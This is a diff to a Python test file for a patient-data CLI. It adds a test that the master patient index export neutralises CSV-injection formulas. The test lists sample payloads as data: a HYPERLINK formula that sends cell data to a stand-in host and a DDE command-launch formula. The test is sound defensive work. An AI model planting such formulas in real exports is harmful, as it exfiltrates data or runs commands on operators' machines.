@@ -11,7 +11,7 @@ from pathlib import Path
 import pytest
 from sqlalchemy import select, update
 from tests.builders import bundle, condition, patient, write_ndjson
-from tests.conftest import FRAMEWORK_PATH
+from tests.conftest import DEPLOYMENT_KEYS, FRAMEWORK_PATH
 from tests.governance.test_audit import as_an_attacker_with_ddl_rights
 from tests.ingest.test_hl7v2 import results
 from typer.testing import CliRunner
@@ -77,7 +77,9 @@ def test_users_list_json_names_role_and_organisation(env: Database) -> None:
     assert users["dn.williams"]["role"] == "district_nurse" and users["dn.williams"]["organisation"] == "RYC"
 
 
-def test_token_is_refused_for_an_unknown_user(env: Database) -> None:
+def test_token_is_refused_for_an_unknown_user(env: Database, monkeypatch: pytest.MonkeyPatch) -> None:
+    for name, value in DEPLOYMENT_KEYS.items():
+        monkeypatch.setenv(name, value)
     result = runner.invoke(app, ["token", "--user", "nobody"])
     assert result.exit_code == 2 and "no user 'nobody'" in result.stderr
 
@@ -450,3 +452,17 @@ def test_a_senders_markup_is_listed_literally_by_quarantine_list_ingest_and_mpi_
     assert review.exit_code == 0, review.output
     assert "JONES, [black on black]Amy" in review.stdout and "Zara[/]\\x1b[8m" in review.stdout
     assert "\x1b" not in review.stdout
+
+
+def test_mpi_export_writes_a_senders_formula_as_text_a_spreadsheet_does_not_run(env: Database, tmp_path: Path) -> None:
+    """A feed's source id is written as the feed sent it; one that starts as a formula would run when an operator
+    opens the export in a spreadsheet, so it is written after a quote (OWASP, CSV injection)."""
+    from tests.ingest.test_csv_extract import _extract, _lrc, _row
+
+    formulas = ['=HYPERLINK("https://evil.example/?d="&A2,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
+    _extract(_lrc(tmp_path), [_row(client_id=c, assessment_id=f"A{n}") for n, c in enumerate(["C1", *formulas])])
+    assert runner.invoke(app, ["ingest", str(tmp_path)]).exit_code == 0
+    result = runner.invoke(app, ["mpi", "export"])
+    assert result.exit_code == 0
+    written = sorted(r["source_id"] for r in csv.DictReader(io.StringIO(result.stdout)))
+    assert written == sorted(["C1", *(f"'{f}" for f in formulas)])
